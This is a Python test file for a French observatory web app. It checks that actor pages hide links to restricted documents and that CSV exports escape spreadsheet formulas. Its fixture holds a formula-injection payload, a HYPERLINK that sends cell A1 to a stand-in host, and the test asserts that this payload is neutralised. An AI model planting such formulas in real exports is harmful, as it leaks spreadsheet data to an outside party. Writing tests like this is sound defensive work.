"""Security findings of #10 in the observatory: links to unreadable documents, formulas in CSV exports."""

from __future__ import annotations

import csv
import html
import io
import re
from pathlib import Path

from sudia.observatoire.kb.factory import open_knowledge_base
from sudia.observatoire.types import Actor, Extraction, Fact, Source

from .app_client import client_on, sign_in_editor

FORMULA = '=HYPERLINK("http://exemple.invalid/?v="&A1;"Cliquez")'


def _observatory(data_dir: Path, actors: tuple[Actor, ...], facts: tuple[Fact, ...] = ()) -> None:
    with client_on(data_dir):  # creates the database
        pass
    kb = open_knowledge_base(f"sqlite:///{data_dir / 'sudia.db'}")
    try:
        kb.save(Extraction(actors=actors, facts=facts), [f"f{i}" for i in range(len(facts))])
    finally:
        kb.close()


def test_actor_page_links_only_documents_the_visitor_may_read(tmp_path: Path) -> None:
    """Low finding of #10: a source in a restricted collection must not be linked (nor its id shown)."""
    data = tmp_path / "data"
    source = tmp_path / "note-paie.txt"
    source.write_text("Acme Robotique recrute à Marseille.\n", "utf-8")
    _observatory(data, (Actor("Acme Robotique", "startup", sources=(Source("note-paie.txt", "Acme Robotique recrute à Marseille."),)),))
    with client_on(data, allow_anonymous=True) as client:
        platform = client.app.state.platform
        platform.ingestor.ingest_file("paie", source)
        platform.store.set_collection_access("paie", "restricted", ("paie",))
        document = platform.store.find_document("paie", "note-paie.txt")
        assert document is not None
        anonymous = client.get("/observatoire/acteurs/acme-robotique").text
        assert document.id not in anonymous and "/api/documents/" not in anonymous
        sign_in_editor(client)  # an administrator outside the group « paie » may not read it either
        assert document.id not in client.get("/observatoire/acteurs/acme-robotique").text
        platform.store.set_collection_access("paie", "public", ())
        page = client.get("/observatoire/acteurs/acme-robotique").text
        assert document.id in page
        # the quote opens the passage view of the document, at the passage that holds it (#9)
        link = re.search(r'href="(/documents/[^"]+)">voir le passage', page)
        assert link and "passage=" in link.group(1) and "extrait=" in link.group(1)
        passage = client.get(html.unescape(link.group(1)))
        assert passage.status_code == 200 and "passage cité" in passage.text


def test_csv_exports_neutralise_formulas(tmp_path: Path) -> None:
    """Low finding of #10: a cell a spreadsheet would run as a formula starts with an apostrophe."""
    data = tmp_path / "data"
    quote = f"{FORMULA} a levé 2 M€."
    actor = Actor(FORMULA, "startup", aliases=("+33 4 00 00 00 00", "@SUM(A1:A2)"), description="-2+3",
                  sources=(Source("cp.txt", quote),))
    fact = Fact(FORMULA, "funding_eur", 2e6, "EUR", "2024", "", Source("cp.txt", quote))
    _observatory(data, (actor,), (fact,))
    with client_on(data, allow_anonymous=True) as client:
        exports = [client.get("/observatoire/export.csv").text, client.get("/observatoire/export-faits.csv").text]
    for body in exports:
        body = body.lstrip("\ufeff")
        dialect = csv.Sniffer().sniff(body.splitlines()[0], delimiters=",;")
        for row in csv.reader(io.StringIO(body), dialect):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert "'=HYPERLINK" in body
